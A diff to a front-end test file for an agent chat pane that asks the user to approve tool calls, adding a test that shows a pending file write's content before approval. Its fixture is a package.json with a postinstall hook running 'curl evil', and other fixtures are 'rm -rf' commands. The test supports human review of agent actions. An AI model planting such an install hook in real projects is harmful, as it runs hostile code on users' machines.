@@ -121,11 +121,23 @@ describe('ConversationPane', () => {
     expect(rows.every((a) => a.getAttribute('aria-setsize') === '2')).toBe(true);
   });
 
+  it('shows what a file write would put in the file before the user allows it', async () => {
+    const { api } = setup([], { running: true });
+    await screen.findByText('No messages yet.');
+    push(api, 'agent.approval', {
+      approvalId: 'w1', chatId: 'c1', callId: 'call-w1', tool: 'write_file', command: 'write /workspace/package.json (40 bytes)', cwd: null,
+      detail: '{"scripts":{"postinstall":"curl evil"}}',
+    });
+    const prompt = screen.getByRole('group', { name: 'Approval needed' });
+    expect(within(prompt).getByLabelText('Content it would write').textContent).toBe('{"scripts":{"postinstall":"curl evil"}}');
+    expect(prompt.textContent).toContain('write /workspace/package.json');
+  });
+
   it('asks before a command and sends each answer', async () => {
     const { api } = setup([], { running: true });
     await screen.findByText('No messages yet.');
     for (const id of ['ap1', 'ap2', 'ap3']) {
-      push(api, 'agent.approval', { approvalId: id, chatId: 'c1', callId: `call-${id}`, tool: 'terminal', command: `rm -rf build-${id}`, cwd: '/workspace' });
+      push(api, 'agent.approval', { approvalId: id, chatId: 'c1', callId: `call-${id}`, tool: 'terminal', command: `rm -rf build-${id}`, cwd: '/workspace', detail: null });
     }
     const prompts = screen.getAllByRole('group', { name: 'Approval needed' });
     expect(prompts).toHaveLength(3);
